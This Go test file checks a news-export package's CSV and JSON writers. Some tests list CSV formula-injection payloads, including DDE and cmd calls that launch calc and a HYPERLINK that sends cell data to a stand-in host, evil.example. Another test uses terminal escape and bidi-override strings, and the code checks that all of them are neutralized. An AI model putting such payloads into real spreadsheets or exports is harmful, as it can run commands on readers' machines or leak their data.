package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"reflect"
	"strings"
	"testing"
	"time"
)

func sampleRow(title, summary string) Row {
	return Row{
		Topic: "Ukraine",
		Terms: []Term{{Term: "Ukraine", Field: "title", Text: "Ukraine"}, {Term: "Ukraine", Field: "summary"}},
		Feed:  "tagesschau.de", Title: title, Summary: summary, Link: "https://news.example/1",
		Published: time.Date(2026, 11, 25, 8, 30, 0, 0, time.FixedZone("CET", 3600)),
		FirstSeen: time.Date(2026, 11, 25, 7, 31, 0, 0, time.UTC),
		Story:     42, StoryTitle: "=Genf: Gespräche", StorySources: 5,
		StoryFirstSeen: time.Date(2026, 11, 25, 3, 9, 0, 0, time.UTC),
	}
}

func TestTermsText(t *testing.T) {
	got := TermsText([]Term{{"Ukraine", "title", "Ukraine"}, {"Russland", "content", "Russland"},
		{"Ukraine", "summary", "ukrainische"}, {"Ukraine", "title", "Ukraine"}})
	if want := "Ukraine (title, summary); Russland (content)"; got != want {
		t.Fatalf("TermsText = %q, want %q", got, want)
	}
}

func TestCSVRoundTrip(t *testing.T) {
	ms := []Row{
		sampleRow("Ukraine: „Gespräche“ in Genf, sagt Selenskyj", "Zeile 1\nZeile 2, mit \"Zitat\""),
		sampleRow("Ukraine; Ölpreis €", ""),
	}
	var buf bytes.Buffer
	if err := WriteCSV(&buf, ms, true); err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(buf.Bytes(), []byte("\ufeff")) {
		t.Fatal("no byte-order mark")
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(rows[0], Header) {
		t.Fatalf("header = %q", rows[0])
	}
	// The columns of earlier versions first, in their places; the story's
	// after them (its title neutralized like every cell).
	if old := []string{"published", "first_seen", "topic", "matched_terms", "feed", "title", "link", "summary"}; !reflect.DeepEqual(Header[:8], old) {
		t.Fatalf("the first columns changed: %q", Header[:8])
	}
	want := []string{"2026-11-25T07:30:00Z", "2026-11-25T07:31:00Z", "Ukraine", "Ukraine (title, summary)",
		"tagesschau.de", ms[0].Title, "https://news.example/1", ms[0].Summary,
		"42", "'=Genf: Gespräche", "5", "2026-11-25T03:09:00Z"}
	if !reflect.DeepEqual(rows[1], want) {
		t.Fatalf("row =\n %q\nwant\n %q", rows[1], want)
	}
	if len(rows) != 3 || rows[2][5] != "Ukraine; Ölpreis €" {
		t.Fatalf("rows = %q", rows)
	}
}

// OWASP's CSV injection payloads (and variants): every one must reach the
// spreadsheet as text.
func TestCSVNeutralizesFormulas(t *testing.T) {
	payloads := []string{
		"=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
		`=HYPERLINK("http://evil.example?x="&A1,"Click")`, "@import", "-2+3+cmd|' /C calc'!A0",
		"  =1+1", "＝1+1", "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
	}
	for _, p := range payloads {
		var buf bytes.Buffer
		if err := WriteCSV(&buf, []Row{sampleRow(p, p)}, false); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, cell := range rows[1] {
			if strings.HasPrefix(cell, "'") {
				continue
			}
			trimmed := strings.TrimLeft(cell, " ")
			if trimmed != "" && strings.ContainsAny(trimmed[:1], "=+-@\t\r") || strings.HasPrefix(trimmed, "＝") {
				t.Errorf("payload %q reached the CSV as %q", p, cell)
			}
		}
		// encoding/csv reads a lone carriage return in a cell as nothing.
		if got, want := rows[1][5], "'"+strings.ReplaceAll(p, "\r", ""); got != want {
			t.Errorf("title cell = %q, want %q", got, want)
		}
	}
	if got := Neutralize("Ukraine-Krieg"); got != "Ukraine-Krieg" {
		t.Errorf("harmless text changed: %q", got)
	}
}

func TestJSON(t *testing.T) {
	m := sampleRow("Ukraine heute", "Ukraine")
	m.Terms[1].Text = "Ukraine"
	var buf bytes.Buffer
	if err := WriteJSON(&buf, []Row{m}); err != nil {
		t.Fatal(err)
	}
	var out []map[string]any
	if err := json.Unmarshal(buf.Bytes(), &out); err != nil {
		t.Fatal(err)
	}
	if len(out) != 1 || out[0]["title"] != "Ukraine heute" || out[0]["published"] != "2026-11-25T07:30:00Z" {
		t.Fatalf("json = %s", buf.String())
	}
	terms := out[0]["matched_terms"].([]any)
	if first := terms[0].(map[string]any); first["field"] != "title" || first["text"] != "Ukraine" {
		t.Fatalf("matched_terms = %v", terms)
	}
}

// TestExportsAreInert: text stored before feeds were cleaned (control
// characters, bidi overrides) does not reach an export, which may be
// written to a terminal.
func TestExportsAreInert(t *testing.T) {
	ms := []Row{{Topic: "Ukraine", Title: "Kiew\x1b[2J \u202egnp.exe", Feed: "F\x07",
		Summary: "eins\tzwei", Categories: []string{"\u2066x\u2069"}}}
	var csvOut, jsonOut bytes.Buffer
	if err := WriteCSV(&csvOut, ms, false); err != nil {
		t.Fatal(err)
	}
	if err := WriteJSON(&jsonOut, ms); err != nil {
		t.Fatal(err)
	}
	for _, out := range []string{csvOut.String(), jsonOut.String()} {
		if strings.ContainsAny(out, "\x1b\x07\u202e\u2066\u2069") || !strings.Contains(out, "Kiew[2J gnp.exe") {
			t.Errorf("export: %q", out)
		}
	}
	if !strings.Contains(csvOut.String(), "eins\tzwei") {
		t.Errorf("a tab in a cell is kept: %q", csvOut.String())
	}
}
